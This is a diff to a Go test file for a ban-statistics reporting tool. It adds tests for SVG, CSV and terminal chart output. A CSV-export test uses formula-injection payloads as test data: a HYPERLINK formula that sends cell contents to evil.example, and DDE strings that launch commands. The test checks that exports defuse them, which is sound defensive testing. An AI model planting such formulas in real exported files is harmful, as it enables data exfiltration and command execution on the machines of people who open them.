@@ -1,12 +1,21 @@
 package main
 
 import (
+	"encoding/csv"
 	"encoding/json"
+	"encoding/xml"
+	"errors"
+	"fmt"
 	"image/png"
+	"io"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
 
 	"friendlyfire/bot"
 )
@@ -77,6 +86,12 @@ func TestReportJSONHasTheDocumentedShape(t *testing.T) {
 			}
 			sum, friendly, last = sum+row.Bans, friendly+*row.Friendly, row.Bans
 		}
+		if kind == "banned" { // the bans of the sample are over
+			if got.Total != 0 || len(got.Rows) != 0 {
+				t.Errorf("%s: total %d, rows %+v, want none", kind, got.Total, got.Rows)
+			}
+			continue
+		}
 		if got.By != kind || got.Since != "all" || got.Total != 1003 || sum != 1003 || friendly != 14 {
 			t.Errorf("%s: by %q since %q total %d, rows sum to %d, %d friendly", kind, got.By, got.Since, got.Total, sum, friendly)
 		}
@@ -112,6 +127,151 @@ func TestReportDrawsEveryKind(t *testing.T) {
 	}
 }
 
+func TestReportIsSVGWhereTheFileIsNamedSo(t *testing.T) {
+	s := sampled(t)
+	for _, kind := range bot.Kinds() {
+		name := filepath.Join(s.dir, kind+".SVG")
+		if _, stderr, code := s.run("report", "--by", kind, "--out", name); code != 0 {
+			t.Fatalf("code %d: %s", code, stderr)
+		}
+		f, err := os.Open(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for in, n := xml.NewDecoder(f), 0; ; n++ {
+			token, err := in.Token()
+			if errors.Is(err, io.EOF) {
+				break
+			}
+			if err != nil {
+				t.Fatalf("%s: %v", kind, err)
+			}
+			if root, ok := token.(xml.StartElement); n == 0 && (!ok || root.Name.Local != "svg") {
+				t.Errorf("%s begins with %v, which is no SVG", kind, token)
+			}
+		}
+		if err := f.Close(); err != nil {
+			t.Error(err)
+		}
+	}
+}
+
+func TestReportCSVHasTheDocumentedShape(t *testing.T) {
+	s := sampled(t)
+	for _, kind := range bot.Kinds() {
+		out, stderr, code := s.run("report", "--by", kind, "--csv")
+		if code != 0 || stderr != "" || !strings.HasPrefix(out, "key,name,bans,addresses,friendly\n") {
+			t.Fatalf("%s: code %d, %s: %.80q", kind, code, stderr, out)
+		}
+		asJSON, _, _ := s.run("report", "--by", kind, "--json")
+		var want bot.Report
+		if err := json.Unmarshal([]byte(asJSON), &want); err != nil {
+			t.Fatal(err)
+		}
+		got := []bot.Row{}
+		for _, cells := range readCSV(t, out) {
+			got = append(got, bot.Row{
+				Key: cells[0], Name: cells[1], Bans: integer(t, cells[2]), Addresses: integer(t, cells[3]), Friendly: integer(t, cells[4]),
+			})
+		}
+		if diff := cmp.Diff(want.Rows, got); diff != "" {
+			t.Errorf("%s: CSV and JSON differ (-JSON +CSV):\n%s", kind, diff)
+		}
+	}
+}
+
+// readCSV returns the rows under the header.
+func readCSV(t *testing.T, text string) [][]string {
+	t.Helper()
+	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return rows[1:]
+}
+
+func integer(t *testing.T, s string) int64 {
+	t.Helper()
+	n, err := strconv.ParseInt(s, 10, 64)
+	if err != nil {
+		t.Error(err)
+	}
+	return n
+}
+
+func TestS08ExportsDoNotExecute(t *testing.T) {
+	jails := []string{ // as a line of the file can hold them: it knows no quotes
+		"=HYPERLINK(\"http://evil.example/?x=\"&A1;\"click\")", "=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
+		"\t=1+1", "\r=1+2", " =1+3", "'=1+4", "＝1+1", "a;=1+1", "\"=1+5\"", "sshd",
+	}
+	s := newScene(t, tableOnly)
+	for i, jail := range jails {
+		s.append(ban(time.Date(2026, 11, 1, 0, i, 0, 0, time.UTC), fmt.Sprintf("198.51.100.%d", i+1), jail, ""))
+	}
+
+	out, stderr, code := s.run("report", "--by", "jail", "--csv")
+	if code != 0 {
+		t.Fatalf("code %d: %s", code, stderr)
+	}
+	bans, quoted := int64(0), 0
+	for _, cells := range readCSV(t, out) {
+		bans += integer(t, cells[2])
+		for _, cell := range cells {
+			if strings.TrimLeft(cell, "=+-@\t\r\n\x00＝＋－＠") != cell {
+				t.Errorf("a spreadsheet would execute %q", cell)
+			}
+		}
+		if strings.HasPrefix(cells[0], "'=") {
+			quoted++
+		}
+	}
+	if bans != int64(len(jails)) || quoted < 5 {
+		t.Errorf("%d bans of %d, %d formulas quoted:\n%s", bans, len(jails), quoted, out)
+	}
+}
+
+// A character that no source lets through is defused all the same.
+func TestS08EveryCharacterThatStartsAFormulaIsDefused(t *testing.T) {
+	for _, start := range []string{"=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠"} {
+		if got := defuse(start + "1"); got != "'"+start+"1" {
+			t.Errorf("%q stays %q", start+"1", got)
+		}
+	}
+	for _, harmless := range []string{"", "sshd", "a=b", "web-1", "2026-11-22", "North Macedonia", "'=1"} {
+		if got := defuse(harmless); got != harmless {
+			t.Errorf("%q becomes %q", harmless, got)
+		}
+	}
+}
+
+// paper is a picture that says in what form it was asked for.
+type paper struct{}
+
+func (paper) PNG() ([]byte, error) { return []byte("PNG"), nil }
+func (paper) SVG() ([]byte, error) { return []byte("SVG"), nil }
+func (paper) Text(int) string      { return "██ 12\n\n" }
+
+func TestReportIsDrawnInPlaceOnATerminalThatCan(t *testing.T) {
+	const text, kitty = "██ 12\n", "\033_Ga=T,f=100,c=78,q=2,m=0;UE5H\033\\\n"
+	tests := map[string]struct {
+		onTerminal bool
+		term, want string
+	}{
+		"kitty":            {true, "xterm-kitty", kitty},
+		"another terminal": {true, "xterm-256color", text},
+		"a pipe in kitty":  {false, "xterm-kitty", text},
+	}
+	for name, tc := range tests {
+		t.Run(name, func(t *testing.T) {
+			var out strings.Builder
+			getenv := func(key string) string { return map[string]string{"TERM": tc.term}[key] }
+			if err := printChart(&out, paper{}, tc.onTerminal, getenv); err != nil || out.String() != tc.want {
+				t.Errorf("%v, wrote %q, want %q", err, out.String(), tc.want)
+			}
+		})
+	}
+}
+
 func TestLookupJSONHasTheDocumentedShape(t *testing.T) {
 	s := sampled(t)
 	out, stderr, code := s.run("lookup", "--json", belgian, "::ffff:192.168.1.1")
@@ -134,8 +294,9 @@ func TestExitCodes(t *testing.T) {
 		"help":            {[]string{"--help"}, 0, ""},
 		"unknown command": {[]string{"dance"}, 2, "dance"},
 		"unknown flag":    {[]string{"report", "--colour"}, 2, "--colour"},
-		"bad kind":        {[]string{"report", "--by", "planet"}, 2, `--by "planet": want one of country, jail, source, day, hour, strict`},
+		"bad kind":        {[]string{"report", "--by", "planet"}, 2, `--by "planet": want one of country, jail, source, day, hour, strict, banned`},
 		"bad period":      {[]string{"report", "--since", "1y"}, 2, `--since "1y": want one of 24h, 7d, 30d, all`},
+		"two formats":     {[]string{"report", "--json", "--csv"}, 2, "--json and --csv"},
 		"no address":      {[]string{"lookup", "example.org"}, 2, `"example.org" is no address`},
 		"nothing to look": {[]string{"lookup"}, 2, "at least 1 arg"},
 		"no config":       {[]string{"--config", "/nonexistent/config.toml", "report"}, 78, "/nonexistent/config.toml: cannot be read: no such file or directory"},
